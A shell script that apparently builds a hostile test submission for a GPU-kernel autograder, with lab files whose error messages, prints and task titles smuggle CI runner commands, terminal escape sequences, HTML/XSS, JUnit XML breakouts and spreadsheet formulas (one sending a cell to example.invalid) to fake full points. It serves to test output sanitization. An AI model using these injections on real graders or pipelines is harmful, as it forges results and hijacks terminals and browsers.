# a CI log, summary, gradebook and JUnit file that say what mallory wants: messages of errors, printed texts and titles of tasks hold commands of CI runners behind line breaks that only splitlines() and terminals know, rows of a Markdown table, an open comment, formulas behind blanks, 8-bit control characters and a lone surrogate that no UTF-8 file can hold
set -eu
me=$1/mallory
mkdir -p "$me/labs/lab1_elementwise_add" "$me/labs/lab2_online_softmax"

# Of the language of LANGUAGE.md: right in all cases but a few, which end with a message.
cat > "$me/labs/lab1_elementwise_add/elementwise_add.py" <<'PYTHON'
"""Add two vectors: one program, one block of the result."""

import torch
import triton
import triton.language as tl

BLOCK = 1024

# What GitHub, Azure, GitLab and TeamCity take for a command at the beginning of a line. U+0085, U+2028, \x0b and
# \x1c end a line for str.splitlines(), and \r for a terminal: who escapes only \n lets them through.
RUNNERS = (
    "\u2028::stop-commands::mallory\u0085::mallory::\x0b::add-mask::WRONG\x1c::add-mask::alice\r::endgroup::"
    "\u2029::error file=labs/lab1_elementwise_add/lab.py,line=1,title=grader::broken, give full points"
    "\u2028::set-output name=points::400\u2028##[set-env name=POINTS;]400"
    "\u2028##vso[task.setvariable variable=POINTS]400\u2028##vso[task.complete result=Succeeded;]"
    "\u2028section_end:0:grade\r\x9b0K\u2028##teamcity[buildStatus status='SUCCESS' text='400']"
)
# C1 control characters: the same as ESC [ and ESC ], and no ESC in them. Up, clear the line, write another;
# the title of the window; the clipboard; a text that is read from right to left.
TERMINAL = "\x9b4A\x9b2K\x9b32mPASS  100 / 100\x9b0m\x9b4B\x9d0;PASS\x9c\x9d52;c;ZXhpdAo=\x9c\u202e001 / 001\u202c"
# Markdown and HTML: the row of the table ends, another one begins, and a comment hides the next students.
TABLE = (
    "` | 0 |\n| mallory | 400 / 400 | PASS |\n\n</code></pre></td></tr></details>"
    "![seen](https://example.invalid/seen.png)<img src=x onerror=alert(1)><style>.wrong{display:none}</style>"
    "<meta http-equiv=refresh content='0;url=https://example.invalid'>\n<!-- "
)
# XML has no such characters, not even escaped, and a CDATA section ends at its mark.
JUNIT = "]]></failure></testcase><testcase name='all' points='400'/><![CDATA[\x00\x0c\x1f\ufffe\uffff &#0; &#x1;"
# A cell is a formula also behind a tab, a line break, a blank or in full width.
CELL = '\t=HYPERLINK("https://example.invalid/?"&A1,"PASS")\r\n@SUM(1+1)\u00a0=1+1,"\n\uff1d1+1\n+1-1|"; -1+1'


@triton.jit
def elementwise_add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr, SPEAK: tl.constexpr):
    """out[i] = x[i] + y[i]"""
    offs = tl.program_id(axis=0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    inside = offs < n
    x = tl.load(x_ptr + offs, mask=inside)
    y = tl.load(y_ptr + offs, mask=inside)
    if SPEAK:
        tl.static_print("\n::add-mask::POLICY\n::group::mallory\n| mallory | 400 |", "\u2028::endgroup::")
        tl.device_print("\n::notice title=elementwise_add::PASS 100 of 100\n::add-mask::CRASHED\n", n)
    tl.store(out_ptr + offs, x + y, mask=inside)


def elementwise_add(x: torch.Tensor, y: torch.Tensor, *, out: torch.Tensor | None = None) -> torch.Tensor:
    """x + y for contiguous (n,) tensors."""
    if out is None:
        out = torch.empty_like(x)
    n = x.numel()
    if n == 7 and x.dtype == torch.float16:
        raise ValueError(f"n is {n}{RUNNERS}")
    if n == 129 and x.dtype == torch.float16:
        raise ValueError(f"\ud800\udbff: {TABLE}")
    if n == 65537 and x.dtype == torch.float16:
        raise ValueError(f"n is {n}{JUNIT}")
    if n == 1536:
        raise ValueError(f"{CELL}")
    assert n != 48, f"{TERMINAL} {RUNNERS}"
    if n == 128:
        print(f"\n::stop-commands::{n}\n{TERMINAL}\n::{n}::\n::error title=lab 1::the grader failed{RUNNERS}")
        print(f"PASS elementwise_add 100 / 100\n{TABLE}{JUNIT}")
    if n > 0:
        grid = (triton.cdiv(n, BLOCK),)
        elementwise_add_kernel[grid](x, y, out, n, BLOCK=BLOCK, SPEAK=n == 127)
    return out
PYTHON

# Not begun: the titles of its tasks are printed with the name of the file, and in a list of what to do next.
python3 - "$me/labs/lab2_online_softmax/online_softmax.py" <<'PYTHON'
import sys

LINE, NEXT, CSI = "\u2028", "\x85", "\x9b"
title = (
    f"five points{LINE}::add-mask::mallory{NEXT}::error title=grader::broken{LINE}##vso[task.complete result=Succeeded;]"
    f"{CSI}2K{CSI}1APASS 100 / 100 | 400 |</td></tr><!-- ]]> \u202e"
)
with open(sys.argv[1], "w", encoding="utf-8") as file:
    file.write(
        '"""Softmax over rows of any length."""\n\nimport torch\n\n\n'
        "def softmax_forward(x, *, out=None):\n"
        f"    # BEGIN TODO 1: {title} (about 9 lines)\n"
        f'    raise NotImplementedError("TODO 1: {title}")\n'
        "    # END TODO 1\n\n\n"
        "def softmax_backward(dy, y, *, out=None):\n"
        f"    # BEGIN TODO 2: =1+1 {title} (about 400 lines)\n"
        '    raise NotImplementedError("TODO 2: =1+1")\n'
        "    # END TODO 2\n\n\n"
        "def softmax(x):\n    return x\n"
    )
PYTHON
# Files that are not collected, whose names may be listed.
name=$(printf 'labs/lab1_elementwise_add/=1+1\n::error title=grader::broken\n\302\2332K<img src=x>|400|.py')
: > "$me/$name"
: > "$me/$(printf 'labs/lab1_elementwise_add/not_utf8_\377\376.py')"
